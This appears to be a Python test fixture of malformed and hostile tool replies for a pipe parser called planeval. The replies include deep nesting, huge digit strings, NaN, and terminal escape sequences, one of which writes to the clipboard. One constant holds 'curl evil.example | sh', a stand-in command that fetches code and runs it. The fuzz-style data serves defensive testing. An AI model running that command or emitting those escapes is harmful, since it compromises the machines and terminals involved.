"""What tools may write to the pipe through which their worker replies: no reply, whoever reads it."""

WORDS = "ATTACKER: curl evil.example | sh"
"""What must never be repeated as if planeval said it."""

ROW = '[0,"ok",42,0.0,1,null,""]'
END = '["end",null]'

SAME = ",".join(str(k * ((1 << 61) - 1)) for k in range(1, 20_000))
HOSTILE = {
    "refused": f'["refused","isolation","{WORDS}"]\n', "refused-tools": f'["refused","tools","{WORDS}"]\n',
    "unloadable": f'["unloadable","{WORDS}"]\n', "layers": f'["layers",[["seccomp",false,"{WORDS}"]]]\n',
    "layers-none": '["layers",null]\n', "begin": '["begin",""]\n', "object": "{}\n", "null": "null\n",
    "number": "7\n", "text": f'"{WORDS}"\n', "empty-list": "[]\n", "empty-line": "\n",
    "no-json": f"{WORDS}\n", "problem-object": '[0,"failed",{},0,1,null]\n',
    "problem-object-7": '[0,"failed",{},0.0,1,null,""]\n',
    "problem-number": '[0,"failed",[1,2],0.0,1,null,""]\n',
    "problem-short": '[0,"failed",["ValueError"],0.0,1,null,""]\n',
    "problem-null": '[0,"failed",null,0.0,1,null,""]\n',
    "seconds-401-digits": f'[0,"ok",1,{"9" * 401},1,null,""]\n',
    "seconds-5000-digits": f'[0,"ok",1,{"9" * 5000},1,null,""]\n',
    "seconds-nan": '[0,"ok",1,NaN,1,null,""]\n', "seconds-infinity": '[0,"ok",1,Infinity,1,null,""]\n',
    "seconds-1e999": '[0,"ok",1,1e999,1,null,""]\n', "seconds-negative": '[0,"ok",1,-1.0,1,null,""]\n',
    "seconds-long": '[0,"ok",1,1e300,1,null,""]\n', "seconds-text": '[0,"ok",1,"0.0",1,null,""]\n',
    "seconds-true": '[0,"ok",1,true,1,null,""]\n', "position-true": '[true,"ok",1,0.0,1,null,""]\n',
    "position-negative": '[-1,"ok",1,0.0,1,null,""]\n', "position-none": '[null,"ok",1,0.0,1,null,""]\n',
    "position-float": '[0.0,"ok",1,0.0,1,null,""]\n', "position-list": '[[0],"ok",1,0.0,1,null,""]\n',
    "position-another": '[7,"ok",1,0.0,1,null,""]\n',
    "position-huge": f'[{"9" * 4000},"ok",1,0.0,1,null,""]\n', "twice": f"{ROW}\n{ROW}\n",
    "status-list": '[0,["ok"],1,0.0,1,null,""]\n', "status-other": f'[0,"{WORDS}",1,0.0,1,null,""]\n',
    "attempts-many": '[0,"ok",1,0.0,1000000,null,""]\n', "attempts-negative": '[0,"ok",1,0.0,-1,null,""]\n',
    "attempts-true": '[0,"ok",1,0.0,true,null,""]\n', "attempts-text": '[0,"ok",1,0.0,"1",null,""]\n',
    "arguments-unasked": '[0,"ok",1,0.0,1,[["x",1]],""]\n',
    "arguments-object": '[0,"ok",1,0.0,1,{"~":"object","type":"a","text":"b"},""]\n',
    "printed-null": '[0,"ok",1,0.0,1,null,null]\n', "printed-list": '[0,"ok",1,0.0,1,null,["x"]]\n',
    "value-tag": '[0,"ok",{"~":"no-such","v":1},0.0,1,null,""]\n',
    "value-tag-list": '[0,"ok",{"~":[],"v":1},0.0,1,null,""]\n',
    "value-tag-alone": '[0,"ok",{"~":"tuple"},0.0,1,null,""]\n',
    "value-float": '[0,"ok",{"~":"float","v":"x"},0.0,1,null,""]\n',
    "value-float-list": '[0,"ok",{"~":"float","v":[1]},0.0,1,null,""]\n',
    "value-int": '[0,"ok",{"~":"int","v":"0xzz"},0.0,1,null,""]\n',
    "value-bytes": '[0,"ok",{"~":"bytes","v":"abc"},0.0,1,null,""]\n',
    "value-complex": '[0,"ok",{"~":"complex","v":[1]},0.0,1,null,""]\n',
    "value-set": '[0,"ok",{"~":"set","v":[{}]},0.0,1,null,""]\n',
    "value-dict": '[0,"ok",{"~":"dict","v":[[{},1]]},0.0,1,null,""]\n',
    "value-dict-short": '[0,"ok",{"~":"dict","v":[[1]]},0.0,1,null,""]\n',
    "value-dict-text": '[0,"ok",{"~":"dict","v":["ab","cd"]},0.0,1,null,1]\n',
    "value-object": '[0,"ok",{"~":"object","type":[],"text":{}},0.0,1,null,""]\n',
    "value-nan": '[0,"ok",NaN,0.0,1,null,""]\n', "value-digits": f'[0,"ok",{"9" * 5000},0.0,1,null,""]\n',
    "value-same-hash": f'[0,"ok",{{"~":"set","v":[{SAME}]}},0.0,1,null,""]\n',
    "deep": '[0,"ok",' + "[" * 100_000 + "]" * 100_000 + ',0.0,1,null,""]\n',
    "deep-300": '[0,"ok",' + "[" * 300 + "]" * 300 + ',0.0,1,null,""]\n',
    "deep-tags": '[0,"ok",' + '{"~":"tuple","v":[' * 150 + "]}" * 150 + ',0.0,1,null,""]\n',
    "half-a-line": '[0,"o', "half-a-row": '[0,"ok",1,0.0,1,null,""', "blank": " \n",
    "two-on-a-line": f"{ROW} {ROW}\n", "escape": "\x1b]52;c;YQ==\x07\x1b[2J\n",
    "escape-in-status": '[0,"\\u001b[2J",1,0.0,1,null,""]\n', "null-byte": "\0\n",
    "surrogate-bytes": "\ud800\n", "not-ascii": '[0,"ok","é",0.0,1,null,""]\n',
    "byte-order-mark": "\ufeff[]\n", "short": '[0,"ok",1]\n', "long": '[0,"ok",1,0.0,1,null,"",0]\n',
    "end-early": f"{END}\n", "end-short": '["end"]\n', "end-long": '["end",null,null]\n',
    "end-with-state": f'{ROW}\n["end",{{"a":1}}]\n', "after-the-end": f"{ROW}\n{END}\n{WORDS}\n",
    "for-later-plans": f"{ROW}\n{END}\n" * 4,
}  # fmt: skip
"""Name → what a tool writes, in the only call of its plan; what fuzzing found stands here too."""
